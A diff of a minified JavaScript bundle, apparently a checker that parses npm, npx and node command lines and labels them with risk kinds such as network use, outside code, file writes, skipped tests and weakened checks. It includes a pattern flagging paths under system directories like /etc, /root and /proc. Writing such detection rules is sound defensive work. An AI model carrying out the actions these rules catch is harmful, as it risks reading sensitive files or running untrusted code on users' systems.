+value:B??g,off:y}}const Sv={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function os(n,e=!1){
+const t=n===void 0?"never":Sv[n.arity];return{spec:n,negated:e,takes:e&&t!=="rest"?"never":t}}function Tv({flags:n},e,t){
 const s=l=>{const B=n.get(l);return{...os(B),takes:B?.arity==="value"?"always":"never"}},r=n.get(e)??n.get(/^-\d+$/.test(
 e)?"-#":"");if(r!==void 0)return[(t===void 0?r.arity!=="attached":r.arity!=="none")?s(r.name):os(void 0)];const i=e.slice(
 0,2);if(!e.startsWith("--")&&n.get(i)?.arity==="value")return[{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.
 test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(l=>n.get(`-${l}`)?.arity==="none")?o.map(l=>s(`-${l}`)):[os(void 0)]}
-function Av(n){return{flags:n.stops&&!n.readsBehind?"first":"anywhere",equals:n.strict?"long":"all",expand:(e,t)=>{if(n.
-strict)return Ov(n,e,t);const s=Sv(n,e,t),r=n.handsOn&&!n.readsBehind;return n.stops&&r&&s.some(({spec:o})=>o===void 0)?
-"operand":s}}}function Sv(n,e,t){const s=e.replace(/^-+/,""),r=e.startsWith("--"),i=Tv(n,s,r);if(i!==void 0)return[i];if(r||
+function Iv(n){return{flags:n.stops&&!n.readsBehind?"first":"anywhere",equals:n.strict?"long":"all",expand:(e,t)=>{if(n.
+strict)return Tv(n,e,t);const s=$v(n,e,t),r=n.handsOn&&!n.readsBehind;return n.stops&&r&&s.some(({spec:o})=>o===void 0)?
+"operand":s}}}function $v(n,e,t){const s=e.replace(/^-+/,""),r=e.startsWith("--"),i=Rv(n,s,r);if(i!==void 0)return[i];if(r||
 s.length<2)return[os(void 0)];const o=[],c=t===void 0?s:`${s}=${t}`;for(let l=0;l<c.length;l+=1){const B=c[l]??"",d=n.flags.
 get(B);if(d===void 0)return[...o,os(void 0)];const h={...os(d),letter:`-${B}`},g=c.slice(l+1);if(g!==""&&(d.arity!=="non\
 e"||g.startsWith("="))){const C=d.arity==="rest"?"rest":"never";return[...o,{...h,fixed:g.replace(/^=/,""),takes:C}]}o.push(
-h)}return o}function Tv(n,e,t){const s=HB(n,e,t)??(t&&n.completes?Iv(n,e):void 0);if(s!==void 0)return os(s);if(!/^no-?[A-Za-z]/.
-test(e))return;const r=HB(n,e.replace(/^no-?/,""),t);return r&&os(r,!0)}function Iv({flags:n},e){const t=Ys(e),s=new Map;
+h)}return o}function Rv(n,e,t){const s=HB(n,e,t)??(t&&n.completes?Nv(n,e):void 0);if(s!==void 0)return os(s);if(!/^no-?[A-Za-z]/.
+test(e))return;const r=HB(n,e.replace(/^no-?/,""),t);return r&&os(r,!0)}function Nv({flags:n},e){const t=Ys(e),s=new Map;
 for(const[i,o]of n)i.startsWith(t)&&s.set(o.name,o);const[r]=s.values();return s.size===1?r:void 0}function HB(n,e,t){const s=Ys(
-e),r=t?s.lastIndexOf("."):-1,i=r<0?void 0:n.flags.get(s.slice(r+1));return i===void 0||n.flags.has(s)?_a(n,s):i.kind==="\
-text"?_a(n,s)??i:i}const Ga=["outside-code","uses-network","writes-files","tool-writes","only-prints","checks-syntax-onl\
-y","never-ends","skips-tests","weakens","reads-stdin"],$v=["text","choice","path","config","output","tests","code","prel\
-oad","module","node"],Rv=["path","text","tests","import"];function zB(n){return Ga.includes(n)}const Ha={families:Ar,start:()=>({
+e),r=t?s.lastIndexOf("."):-1,i=r<0?void 0:n.flags.get(s.slice(r+1));return i===void 0||n.flags.has(s)?va(n,s):i.kind==="\
+text"?va(n,s)??i:i}const za=["outside-code","uses-network","writes-files","tool-writes","only-prints","checks-syntax-onl\
+y","never-ends","skips-tests","weakens","reads-stdin"],Fv=["text","choice","path","config","output","tests","code","prel\
+oad","module","node"],Pv=["path","text","tests","import"];function zB(n){return za.includes(n)}const Ua={families:Ar,start:()=>({
 launched:[],problems:[]}),tool:()=>({problems:[]})};function Ds(n){return n==="node"||n==="npm"||n==="npx"}function Ir(n){
 return/^(?:@[a-z0-9~-][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i.test(n)}function St(n,e,{text:t,span:s}){return Xe(n,s,
-{program:e,flag:t})}function Ji(n,e,t){const{written:s,span:r,value:i}=t,o={program:e,flag:s};return Xe(n,r,i===void 0?o:
+{program:e,flag:t})}function Wi(n,e,t){const{written:s,span:r,value:i}=t,o={program:e,flag:s};return Xe(n,r,i===void 0?o:
 {...o,value:i})}function UB(n,e){return e?"it takes a value, so it has no `--no-` form":n===void 0||n===""?"its value is\
- missing":n.startsWith("-")?"its value begins with a dash":void 0}const Nv=new Set(["--version","-v","-V","--help","-h"]);
-function JB(n){const[e]=n;return n.length===1&&e!==void 0&&Nv.has(e.text)?e:void 0}function Zi(n,e){return St("only-prin\
+ missing":n.startsWith("-")?"its value begins with a dash":void 0}const Lv=new Set(["--version","-v","-V","--help","-h"]);
+function JB(n){const[e]=n;return n.length===1&&e!==void 0&&Lv.has(e.text)?e:void 0}function Ki(n,e){return St("only-prin\
 ts",n,e)}function xs(n){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(n)||n.split(",").some(e=>ft(e)===void 0)}function Os(n){
 return/(?:^|[=,\s])(?:data|file):/i.test(n)?!0:!n.includes("..")||/^(?:[\\/]|[A-Za-z]:)/.test(n)?!1:n.split(/[=,:"']/).some(
-e=>e.includes("..")&&!Pv(e))}function Wi(n){return n.split(/[=,:"']/).some(e=>Fv.test(e))}const Fv=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
-function Pv(n){return/^[\\/]/.test(n)||ft(n)!==void 0}function ZB(n,e=Ha){const{flags:t,operands:s}=WB(LB,n,jB),[r,...i]=s,
+e=>e.includes("..")&&!Mv(e))}function qi(n){return n.split(/[=,:"']/).some(e=>jv.test(e))}const jv=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
+function Mv(n){return/^[\\/]/.test(n)||ft(n)!==void 0}function ZB(n,e=Ua){const{flags:t,operands:s}=WB(LB,n,jB),[r,...i]=s,
 o=r&&MB.get(r.text),c=o?.kind==="runs-tool",l=KB("npm",t,n,c),B={program:"npm",flags:l.flags};if(r===void 0){const C=qB(
-t)?[]:[za("npm",n)];return{invocation:{...B,operands:[],passthrough:[]},problems:[...l.problems,...C]}}if(o===void 0){const C=[
+t)?[]:[Ja("npm",n)];return{invocation:{...B,operands:[],passthrough:[]},problems:[...l.problems,...C]}}if(o===void 0){const C=[
 ...MB].find(([k])=>k.startsWith(r.text))?.[1].name??"",y={program:"npm",subcommand:r.text,meant:C},_=[Xe("unknown-subcom\
 mand",r.span,y),...l.problems];return{invocation:{...B,operands:i,passthrough:[]},problems:_}}const d={...B,subcommand:o.
-name},{invocation:h,problems:g}=Hv(o,{word:r,rest:i},d,e);return{invocation:h,problems:[...g,...l.problems]}}const Lv={...LB,
-stops:!0},jv=new Map([...jB,["--no-install","--no-yes"],["-p","--package"]]);function Mv(n,e=Ha){const{flags:t,operands:s}=WB(
-Lv,n,jv),r=KB("npx",t,n,!0),i={program:"npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:y,..._}=i,
-k=qB(t)?[]:[za("npx",n)];return{invocation:{..._,operands:[],passthrough:[]},problems:[...r.problems,...k]}}const c=n[n.
+name},{invocation:h,problems:g}=Jv(o,{word:r,rest:i},d,e);return{invocation:h,problems:[...g,...l.problems]}}const Gv={...LB,
+stops:!0},Hv=new Map([...jB,["--no-install","--no-yes"],["-p","--package"]]);function zv(n,e=Ua){const{flags:t,operands:s}=WB(
+Gv,n,Hv),r=KB("npx",t,n,!0),i={program:"npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:y,..._}=i,
+k=qB(t)?[]:[Ja("npx",n)];return{invocation:{..._,operands:[],passthrough:[]},problems:[...r.problems,...k]}}const c=n[n.
 indexOf(o)-1],l=s.slice(1).find(({text:y})=>y.startsWith("-")),h=/^--no(?!-install$)/.test(c?.text??"")&&l!==void 0&&c?[
 Xe("flag-value",c.span,{program:"npx",flag:c.text,fault:"npx takes the next word for its value"})]:[],{invocation:g,problems:C}=YB(
 s,i,e);return{invocation:g,problems:[...C,...r.problems,...h]}}function WB(n,e,t){const s=new Map;for(const l of e){const B=t.
@@ -4007,38 +4010,38 @@ get(l.text);s.set(B===void 0?l:{...l,text:B},l)}const{flags:r,operands:i,started
 flags:r,operands:c.map(l=>s.get(l)??l)}}function KB(n,e,t,s){const r=e.map(i=>{const{word:o,value:c,flag:l}=i,B=t.findIndex(
 ({span:R})=>R.start===o.span.start),d=(t[B]?.text??"").replace(/^(--[^=]*)=.*/s,"$1"),[,h,g]=/^--(no-)?(.*)$/s.exec(l?.name??
 d)??[],C=h!==void 0,y={name:`--${g??d}`,written:d,span:o.span,...c!==void 0&&l&&{value:c},...C&&{negated:C}};if(l===void 0)
-return{flag:y,problems:[Gv(n,y,t[B+1],s)]};const _=/^(?:true|false|null|always)$/.test(t[B+1]?.text??""),k=l.arity==="va\
-lue"?UB(c,!1):_?"npm reads the next word as its value":void 0,v=zB(l.kind)?l.kind:s&&yv.has(l.name)?"outside-code":void 0,
-O={program:"npm",flag:d,fault:k??""},D=k===void 0?[]:[Xe("flag-value",o.span,O)];return{flag:y,problems:[...v?[Ji(v,n,y)]:
-[],...D]}});return{flags:r.map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function Gv(n,e,t,s){const r=Ji("un\
-known-flag",n,e),i=!s&&wv.has(e.written),o=t!==void 0&&!t.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}
-function qB(n){return n.some(({flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function Hv({name:n,kind:e},t,s,r){
-if(e==="runs-script")return zv(n,t,s);if(e!=="runs-tool")return{invocation:{...s,operands:t.rest,passthrough:[]},problems:[
+return{flag:y,problems:[Uv(n,y,t[B+1],s)]};const _=/^(?:true|false|null|always)$/.test(t[B+1]?.text??""),k=l.arity==="va\
+lue"?UB(c,!1):_?"npm reads the next word as its value":void 0,v=zB(l.kind)?l.kind:s&&_v.has(l.name)?"outside-code":void 0,
+O={program:"npm",flag:d,fault:k??""},D=k===void 0?[]:[Xe("flag-value",o.span,O)];return{flag:y,problems:[...v?[Wi(v,n,y)]:
+[],...D]}});return{flags:r.map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function Uv(n,e,t,s){const r=Wi("un\
+known-flag",n,e),i=!s&&Ev.has(e.written),o=t!==void 0&&!t.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}
+function qB(n){return n.some(({flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function Jv({name:n,kind:e},t,s,r){
+if(e==="runs-script")return Zv(n,t,s);if(e!=="runs-tool")return{invocation:{...s,operands:t.rest,passthrough:[]},problems:[
 St(e,s.program,{text:n,span:t.word.span})]};if(t.rest.length>0)return YB(t.rest,s,r);const o=s.flags.some(({name:c})=>c===
-"--call")?[]:[za(s.program,[t.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function zv(n,{word:e,
-rest:t},s){const r=n==="run"?t.slice(0,1):[e],i=n==="run"?t.slice(1):t,[o]=r,c=[];o===void 0?c.push(Zi("npm",{...e,text:"\
-run"})):o.text==="env"&&c.push({...Zi("npm",{...o,text:"run env"}),severity:"error"});const l=JB(i);return l!==void 0&&c.
-push(Zi("npm",l)),{invocation:{...s,operands:r,passthrough:i},problems:c}}function YB([n,...e],t,s){const r={...t,operands:n?
+"--call")?[]:[Ja(s.program,[t.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function Zv(n,{word:e,
+rest:t},s){const r=n==="run"?t.slice(0,1):[e],i=n==="run"?t.slice(1):t,[o]=r,c=[];o===void 0?c.push(Ki("npm",{...e,text:"\
+run"})):o.text==="env"&&c.push({...Ki("npm",{...o,text:"run env"}),severity:"error"});const l=JB(i);return l!==void 0&&c.
+push(Ki("npm",l)),{invocation:{...s,operands:r,passthrough:i},problems:c}}function YB([n,...e],t,s){const r={...t,operands:n?
 [n]:[],passthrough:e};if(n===void 0)return{invocation:r,problems:[]};if(!Ir(n.text))return{invocation:r,problems:[St("us\
-es-network",t.program,n)]};const{problems:i,...o}=s.tool(n,e);return{invocation:{...r,...o},problems:i}}function za(n,e){
+es-network",t.program,n)]};const{problems:i,...o}=s.tool(n,e);return{invocation:{...r,...o},problems:i}}function Ja(n,e){
 const t=e[0]?.span.start??0,s=e.at(-1)?.span.end??0;return Xe("nothing-to-run",{start:t,end:s},{program:n})}function VB(n){
-try{return n()}catch{return}}var Ua=at(6);const Uv=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go \
+try{return n()}catch{return}}var Za=at(6);const Wv=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go \
 java kt kts scala groovy c h cc cpp cxx hh
   hpp cs fs vb rb php swift m mm dart ex exs erl hs elm clj cljs lua pl pm r jl nim zig sh bash zsh ps1 sql
-  css scss sass less html graphql proto`.split(/\s+/)),Jv=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
-ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),Zv=new Set("ini json json5 jsonl toml yaml yml".split(" ")),Wv=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
-function Kv(n){return Uv.has(Za(n))}function Ja(n){return Kv(n)||Jv.has(Za(n))}function KN(n){return Ja(n)||Zv.has(Za(n))||
-Wv.test(posix.basename(n))}const qv=/\.(?:md|mdx|markdown|txt|rst|adoc)$|(?:^|\/)(?:licen[cs]e|readme|changelog)[^/]*$/i;
-function Yv(n){return qv.test(n)}function qN(n){return(Ja(n)||!posix.basename(n).includes("."))&&!Yv(n)}function Za(n){return Le.
-posix.extname(n).slice(1).toLowerCase()}const Vv={tests:"tests?|__tests__|specs?|e2e|cypress|playwright",data:"__mocks__\
-|__snapshots__|__fixtures__|fixtures?|testdata|test[-_]?(?:utils?|helpers?|support)",beside:"bench(?:marks?)?"},Qv=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
-Xv=/^features\/|\.feature$|(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[ek,tk,nk]=Object.values(Vv).
-map(n=>new RegExp(`(?:^|/)(?:${n})/`,"i"));function sk(n){return ek.test(n)||Qv.test(n)}function rk(n){return tk.test(n)||
-n.endsWith(".snap")}function YN(n){return sk(n)||rk(n)||nk.test(n)||Xv.test(n)}const Wa=["npm-shrinkwrap.json","package-\
-lock.json"],Ki=[...Wa,"pnpm-lock.yaml","yarn.lock","bun.lock","bun.lockb"],ik=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
-function VN(n){return Ki.includes(n)||ik.test(n)}const ok=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
-function QN(n){return Ki.includes(n)||ok.test(n)}const Dn="{js,cjs,mjs,ts,cts,mts}",QB="{json,jsonc,json5,yaml,yml,toml}",
-en=`{${Dn.slice(1,-1)},${QB.slice(1,-1)}}`,ak={vitest:`vitest.config.${Dn} vitest.workspace.${en} vite.config.${Dn}`,jest:`\
+  css scss sass less html graphql proto`.split(/\s+/)),Kv=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
+ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),qv=new Set("ini json json5 jsonl toml yaml yml".split(" ")),Yv=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
+function Vv(n){return Wv.has(Ka(n))}function Wa(n){return Vv(n)||Kv.has(Ka(n))}function QN(n){return Wa(n)||qv.has(Ka(n))||
+Yv.test(posix.basename(n))}const Qv=/\.(?:md|mdx|markdown|txt|rst|adoc)$|(?:^|\/)(?:licen[cs]e|readme|changelog)[^/]*$/i;
+function Xv(n){return Qv.test(n)}function XN(n){return(Wa(n)||!posix.basename(n).includes("."))&&!Xv(n)}function Ka(n){return Le.
+posix.extname(n).slice(1).toLowerCase()}const ek={tests:"tests?|__tests__|specs?|e2e|cypress|playwright",data:"__mocks__\
+|__snapshots__|__fixtures__|fixtures?|testdata|test[-_]?(?:utils?|helpers?|support)",beside:"bench(?:marks?)?"},tk=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
+nk=/^features\/|\.feature$|(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[sk,rk,ik]=Object.values(ek).
+map(n=>new RegExp(`(?:^|/)(?:${n})/`,"i"));function ok(n){return sk.test(n)||tk.test(n)}function ak(n){return rk.test(n)||
+n.endsWith(".snap")}function eF(n){return ok(n)||ak(n)||ik.test(n)||nk.test(n)}const qa=["npm-shrinkwrap.json","package-\
+lock.json"],Yi=[...qa,"pnpm-lock.yaml","yarn.lock","bun.lock","bun.lockb"],ck=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
+function tF(n){return Yi.includes(n)||ck.test(n)}const uk=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
+function nF(n){return Yi.includes(n)||uk.test(n)}const Dn="{js,cjs,mjs,ts,cts,mts}",QB="{json,jsonc,json5,yaml,yml,toml}",
+en=`{${Dn.slice(1,-1)},${QB.slice(1,-1)}}`,lk={vitest:`vitest.config.${Dn} vitest.workspace.${en} vite.config.${Dn}`,jest:`\
 jest.config.${en} jest.setup.${Dn}`,mocha:`.mocharc .mocharc.${en}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
 ,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${Dn}`,cypress:`cypress.config.${Dn}`,eslint:`eslint.config.${Dn}\
  .eslintrc .eslintrc.${en} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${en} prettier.conf\
@@ -4052,35 +4055,35 @@ ytest.toml pytest.ini .pytest.ini conftest.py pyproject.toml setup.cfg",tox:"tox
 ain.toml clippy.toml .clippy.toml rustfmt.toml",go:"go.mod go.work .golangci.{yml,yaml,toml,json}",make:"Makefile makefi\
 le GNUmakefile *.mk",maven:"pom.xml",gradle:"{build,settings}.gradle {build,settings}.gradle.kts gradle.properties",dotnet:"\
 Directory.Build.{props,targets} *.runsettings",phpunit:"phpunit.xml phpunit.xml.dist phpunit.dist.xml",rspec:".rspec .ru\
-bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let XB;function ck(n){if(XB??=Object.
-entries(ak).map(([t,s])=>[t,Ua(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(n))return"cargo";const e=n.slice(
-n.lastIndexOf("/")+1);return XB.find(([,t])=>t(e))?.[0]}const uk=["dependencies","devDependencies","optionalDependencies"],
-ef=64*1024*1024,Ln=Symbol("invalid"),$r=kr(async(n,e)=>{if(At(n,e).kind==="missing")return;const t=await Gi(n,e,ef);if(t===
-void 0||"unread"in t||EE(t.text))return Ln;const s=VB(()=>JSON.parse(t.text.replace(/^\uFEFF/,"")));return typeof s=="ob\
+bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let XB;function dk(n){if(XB??=Object.
+entries(lk).map(([t,s])=>[t,Za(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(n))return"cargo";const e=n.slice(
+n.lastIndexOf("/")+1);return XB.find(([,t])=>t(e))?.[0]}const Bk=["dependencies","devDependencies","optionalDependencies"],
+ef=64*1024*1024,Ln=Symbol("invalid"),$r=kr(async(n,e)=>{if(At(n,e).kind==="missing")return;const t=await Hi(n,e,ef);if(t===
+void 0||"unread"in t||DE(t.text))return Ln;const s=VB(()=>JSON.parse(t.text.replace(/^\uFEFF/,"")));return typeof s=="ob\
 ject"&&s!==null?s:Ln}),Rr=kr(async(n,e)=>{const t=e===""?"package.json":`${e}/package.json`,s=await $r(n,t);return s===void 0||
-s===Ln?s:lk(t,s)});async function xn(n,e){const t=await Rr(n,e);return t===Ln?void 0:t}function lk(n,e){const t=typeof e.
-name=="string"?e.name:"";return{path:n,name:t,scripts:Ka(e.scripts),binaries:new Map(Object.entries(qi(e.bin,t)??{})),dependencies:new Set(
-uk.flatMap(s=>[...Ka(e[s]).keys()])),workspaces:dk(e.workspaces)}}function qi(n,e){if(typeof n=="string")return{[e.replace(
-/^@[^/]*\//,"")]:n};const t=Ka(n);return t.size===0?void 0:Object.fromEntries(t)}function Ka(n){return new Map(Object.entries(
-on(n)).flatMap(([e,t])=>typeof t=="string"?[[e,t]]:[]))}function dk(n){const e=Array.isArray(n)?n:on(n).packages;return Array.
-isArray(e)?e.filter(t=>typeof t=="string"):[]}const On=Fn(async n=>{const e=Ki.filter(i=>n.stat(i)!==void 0),t=Wa.find(i=>e.
-includes(i)),s=t===void 0?void 0:await Bk(n,t),r=e.filter(i=>!Wa.some(o=>o===i));return s==="unread"?{unread:[t??"",...r]}:
-t===void 0?{unread:r}:{npm:s??{path:t,packages:new Map,all:[]},unread:r}}),Bk=kr(async(n,e)=>{const t=await Gi(n,e,ef),s=t&&
+s===Ln?s:fk(t,s)});async function xn(n,e){const t=await Rr(n,e);return t===Ln?void 0:t}function fk(n,e){const t=typeof e.
+name=="string"?e.name:"";return{path:n,name:t,scripts:Ya(e.scripts),binaries:new Map(Object.entries(Vi(e.bin,t)??{})),dependencies:new Set(
+Bk.flatMap(s=>[...Ya(e[s]).keys()])),workspaces:hk(e.workspaces)}}function Vi(n,e){if(typeof n=="string")return{[e.replace(
+/^@[^/]*\//,"")]:n};const t=Ya(n);return t.size===0?void 0:Object.fromEntries(t)}function Ya(n){return new Map(Object.entries(
+on(n)).flatMap(([e,t])=>typeof t=="string"?[[e,t]]:[]))}function hk(n){const e=Array.isArray(n)?n:on(n).packages;return Array.
+isArray(e)?e.filter(t=>typeof t=="string"):[]}const On=Fn(async n=>{const e=Yi.filter(i=>n.stat(i)!==void 0),t=qa.find(i=>e.
+includes(i)),s=t===void 0?void 0:await pk(n,t),r=e.filter(i=>!qa.some(o=>o===i));return s==="unread"?{unread:[t??"",...r]}:
+t===void 0?{unread:r}:{npm:s??{path:t,packages:new Map,all:[]},unread:r}}),pk=kr(async(n,e)=>{const t=await Hi(n,e,ef),s=t&&
 "text"in t?t.text.replace(/^\uFEFF/,""):"",r=on(VB(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===
 1?"unread":void 0;const i=new Map,o=[];for(const[c,l]of Object.entries(on(r.packages))){if(c==="")continue;const[,B,d]=/^(.*?)node_modules\/((?:@[^/]+\/)?[^/]+)$/s.
-exec(c)??[],h=fk(d??c,on(l));B===""&&d!==void 0&&i.set(d,h),o.push(h)}return{path:e,packages:i,all:o}});function fk(n,e){
-const t=Yn(e,"name")||n,s=Yn(e,"version"),r=Yn(e,"resolved"),i=Yn(e,"integrity"),o=qi(e.bin,t),c=e.link===!0?{kind:"file",
-at:r.replace(/^file:/,"")}:tf(r,t,s);return{name:t,version:s,source:c,...i&&{integrity:i},...o&&{bin:o}}}const hk={kind:"\
-registry"},pk=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,mk=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
-gk=/^(?:file|link|portal|workspace):(.*)$/is;function tf(n,e,t){const[,s]=gk.exec(n)??[];return s!==void 0?{kind:"file",
-at:s}:pk.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:/^https?:/i.test(n)?Ck(n,e,t):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
-n)||/\.t(?:ar\.)?gz$/i.test(n)?{kind:"file",at:n}:mk.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:hk}function Ck(n,e,t){
-const s={kind:"tarball",at:n.replace(/#.*$/s,"")};if(!URL.canParse(n))return s;const{host:r,pathname:i}=new URL(n),o=yk(
+exec(c)??[],h=mk(d??c,on(l));B===""&&d!==void 0&&i.set(d,h),o.push(h)}return{path:e,packages:i,all:o}});function mk(n,e){
+const t=Yn(e,"name")||n,s=Yn(e,"version"),r=Yn(e,"resolved"),i=Yn(e,"integrity"),o=Vi(e.bin,t),c=e.link===!0?{kind:"file",
+at:r.replace(/^file:/,"")}:tf(r,t,s);return{name:t,version:s,source:c,...i&&{integrity:i},...o&&{bin:o}}}const gk={kind:"\
+registry"},Ck=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,yk=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
+wk=/^(?:file|link|portal|workspace):(.*)$/is;function tf(n,e,t){const[,s]=wk.exec(n)??[];return s!==void 0?{kind:"file",
+at:s}:Ck.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:/^https?:/i.test(n)?bk(n,e,t):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
+n)||/\.t(?:ar\.)?gz$/i.test(n)?{kind:"file",at:n}:yk.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:gk}function bk(n,e,t){
+const s={kind:"tarball",at:n.replace(/#.*$/s,"")};if(!URL.canParse(n))return s;const{host:r,pathname:i}=new URL(n),o=_k(
 i),[,c]=/^\/([^/]+\/[^/]+)\/tar\.gz\//.exec(o)??[];if(r==="codeload.github.com"&&c!==void 0)return{kind:"git",at:`https:\
 //github.com/${c}`};const l=e.replace(/^@[^/]*\//,"");return o.endsWith(`/${e}/-/${l}-${t}.tgz`)||o.endsWith(`/${e}/-/${e}\
--${t}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${t}/`)?{kind:"registry",at:r}:s}function yk(n){try{
-return decodeURIComponent(n)}catch{return n}}function wk(n){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(n)??[];
-return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const qa=Pi({harmless:`
+-${t}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${t}/`)?{kind:"registry",at:r}:s}function _k(n){try{
+return decodeURIComponent(n)}catch{return n}}function Ek(n){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(n)??[];
+return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const Va=Li({harmless:`
     addons async-context-frame debug-arraybuffer-allocations deprecation disable-proto=
     disable-sigusr1 disable-warning= disallow-code-generation-from-strings dns-result-order=
     enable-fips enable-source-maps experimental-abortcontroller experimental-detect-module
@@ -4138,99 +4141,99 @@ ers
     watch watch-path=
   `,"writes-files":`
     cpu-prof heap-prof prof report-on-fatalerror test-update-snapshots
-  `}),bk=new Map(`
+  `}),vk=new Map(`
   -c=check -C=conditions -e=eval -h=help -i=interactive -p=print -pe=print -r=require -v=version
   debug-port=inspect-port enable-network-family-autoselection=network-family-autoselection
   experimental-default-config-file=experimental-config-file experimental-strip-types=strip-types
   experimental-test-isolation=test-isolation loader=experimental-loader
   security-reverts=security-revert
-  `.trim().split(/\s+/).map(n=>n.split("="))),_k=new Set("dot junit lcov spec tap".split(" ")),nf=new Set(`
+  `.trim().split(/\s+/).map(n=>n.split("="))),kk=new Set("dot junit lcov spec tap".split(" ")),nf=new Set(`
   @swc-node/register dotenv/config esbuild-register source-map-support/register ts-node/esm
   ts-node/register ts-node/register/transpile-only tsx tsx/cjs tsx/esm
-  `.match(/\S+/g)),Ek=new Set(`
+  `.match(/\S+/g)),Dk=new Set(`
   @babel/polyfill @babel/register @istanbuljs/esm-loader-hook @swc/register core-js/stable esm
   reflect-metadata regenerator-runtime/runtime ts-node ts-node/register/files tsconfig-paths/register
-  `.match(/\S+/g)),vk=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);function sf(n){const e=[],t=[],s=[],r=new Set;
-for(const g of GB(n,kk).tokens){if(g.kind==="operand"){s.push(g.word);continue}if(g.kind==="unknown"){const O={program:"\
-node",flag:g.written};t.push(Xe("unknown-flag",g.word.span,O));continue}const{spec:C,negated:y}=g.part,_=xk(g);e.push(_);
-const k=Ok(C,y,_.value);if(k!==void 0&&t.push(Ak(_,k)),y)continue;r.add(C.kind);const v=Tk(C,_);v!==void 0&&t.push(Ji(v,
-"node",_))}const i=Yi({flags:e}),o=i?s.length:r.has("evaluates")?0:1,c=s.slice(0,o),l=s.slice(o),B=i||r.has("only-prints")||
-r.has("evaluates"),d=Ik(c,i,n);d!==void 0&&!(B&&c.length===0)&&t.push(d);const h=JB(l);return h!==void 0&&t.push(Zi("nod\
